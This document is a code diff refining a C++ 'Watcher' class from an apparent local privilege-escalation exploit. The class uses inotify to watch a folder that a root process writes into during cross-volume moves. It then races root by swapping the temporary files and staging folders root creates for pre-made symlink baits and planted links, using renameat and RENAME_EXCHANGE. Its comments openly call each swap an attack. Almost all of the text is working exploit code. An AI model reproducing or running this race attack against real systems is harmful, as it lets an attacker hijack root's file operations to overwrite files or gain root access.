@@ -100,7 +100,8 @@ void makeSocket(const std::string& path) {
 }
 
 // Watches the destination of moves across volumes and attacks every
-// temporary node and staging folder that appears in it.
+// temporary node and folder that root makes in it. Everything an attack
+// needs is made ahead of time, so that each attack is a single rename.
 class Watcher {
  public:
   Watcher(const RacePlan& plan, int reportWrite) : plan_(plan), reportWrite_(reportWrite) {}
@@ -109,8 +110,8 @@ class Watcher {
     inotify_ = inotify_init1(IN_CLOEXEC);
     destination_ = open(plan_.destination.c_str(), O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
     if (inotify_ < 0 || destination_ < 0) _exit(5);
-    for (int i = 0; i < kBaitPool; ++i) refillBaits();
     watch(plan_.destination, destination_);
+    for (int i = 0; i < kBaitPool; ++i) refill();
     report(reportWrite_, 'r', 0);
 
     alignas(inotify_event) char buffer[1 << 14];
@@ -130,60 +131,70 @@ class Watcher {
   }
 
  private:
+  // What a folder root made is exchanged with, in turn.
+  enum Swap { kFolderLink, kOwnFolder, kPlantedFolder, kSwapKinds };
+
   void watch(const std::string& path, int folder) {
     const int wd = inotify_add_watch(inotify_, path.c_str(), IN_CREATE | IN_ONLYDIR);
     if (wd >= 0) folders_[wd] = folder;
   }
 
-  // Baits are made ahead of time, so that an attack is a single rename.
-  void refillBaits() {
+  // A folder of ours, watched, holding a link to the folder bait (for the
+  // folders root makes in it) and, when |planted|, links named like the
+  // entries root will copy into it.
+  void makeOwnFolder(const std::string& name, bool planted) {
+    mkdirat(destination_, name.c_str(), 0777);
+    const int ours =
+        openat(destination_, name.c_str(), O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
+    if (ours < 0) return;
+    fchmod(ours, 0777);
+    symlinkat(plan_.folderBait.c_str(), ours, ".bait-folder");
+    if (planted) {
+      for (const std::string& plant : plan_.plantNames)
+        symlinkat(plan_.fileBait.c_str(), ours, plant.c_str());
+    }
+    watch("/proc/self/fd/" + std::to_string(ours), ours);
+  }
+
+  void refill() {
     const std::string n = std::to_string(made_++);
     symlinkat(plan_.fileBait.c_str(), destination_, (".bait-file-" + n).c_str());
     symlinkat(plan_.folderBait.c_str(), destination_, (".bait-folder-" + n).c_str());
+    makeOwnFolder(".own-" + n, false);
+    makeOwnFolder(".planted-" + n, true);
   }
-  std::string nextBait(const char* kind) { return std::string(kind) + std::to_string(used_); }
 
   void react(int wd, const char* name, bool isFolder) {
     auto found = folders_.find(wd);
     if (found == folders_.end()) return;
     const int folder = found->second;
+    const bool inDestination = folder == destination_;
     // In the destination: temporary nodes, staging folders, and the dated
-    // folders root makes there.
-    if (folder == destination_ && !isFolder && std::strncmp(name, kTemporaryPrefix, 15) != 0)
-      return;
-    if (isFolder && folder != destination_) return;  // root's folder in ours: cannot move it out
+    // folders root makes there. In a folder of ours: whatever root makes.
+    const bool temporary = std::strncmp(name, kTemporaryPrefix, 15) == 0;
+    if (inDestination && !temporary && (!isFolder || name[0] == '.')) return;  // ours
     if (!isFolder) {
       // A node root made and will finish by name: a link takes the name.
-      if (renameat(destination_, nextBait(".bait-file-").c_str(), folder, name) == 0) {
-        ++(folder == destination_ ? temporaryNodes_ : nodesInTakenFolders_);
-        ++used_;
-        refillBaits();
+      const std::string bait = ".bait-file-" + std::to_string(usedFiles_);
+      if (renameat(destination_, bait.c_str(), folder, name) == 0) {
+        ++(inDestination ? temporaryNodes_ : nodesInTakenFolders_);
+        ++usedFiles_;
+        refill();
       }
       return;
     }
-    switch (stagingFolders_++ % 3) {
-      case 0:
-        if (renameat2(destination_, nextBait(".bait-folder-").c_str(), destination_, name,
-                      RENAME_EXCHANGE) == 0) {
-          ++used_;
-          refillBaits();
-        }
-        break;
-      default: {
-        // Take the name over with a folder of ours, watched or planted.
-        const std::string away = ".stolen-" + std::to_string(stagingFolders_);
-        if (renameat(destination_, name, destination_, away.c_str()) != 0) break;
-        mkdirat(destination_, name, 0777);
-        const int ours =
-            openat(destination_, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
-        if (ours < 0) break;
-        fchmod(ours, 0777);
-        if (stagingFolders_ % 3 == 2) {
-          for (const std::string& plant : plan_.plantNames)
-            symlinkat(plan_.fileBait.c_str(), ours, plant.c_str());
-        }
-        watch("/proc/self/fd/" + std::to_string(ours), ours);
-      }
+    if (!inDestination) {
+      // Root's folder inside ours: only an exchange within ours can move it.
+      renameat2(folder, ".bait-folder", folder, name, RENAME_EXCHANGE);
+      return;
+    }
+    const unsigned long n = usedFolders_;
+    const char* kinds[kSwapKinds] = {".bait-folder-", ".own-", ".planted-"};
+    const std::string ours = kinds[stagingFolders_ % kSwapKinds] + std::to_string(n);
+    if (renameat2(destination_, ours.c_str(), destination_, name, RENAME_EXCHANGE) == 0) {
+      ++stagingFolders_;
+      ++usedFolders_;
+      refill();
     }
   }
 
@@ -192,7 +203,7 @@ class Watcher {
   int inotify_ = -1;
   int destination_ = -1;
   std::map<int, int> folders_;  // watch descriptor -> folder descriptor
-  unsigned long made_ = 0, used_ = 0;
+  unsigned long made_ = 0, usedFiles_ = 0, usedFolders_ = 0;
   unsigned long temporaryNodes_ = 0, stagingFolders_ = 0, nodesInTakenFolders_ = 0;
 };
 
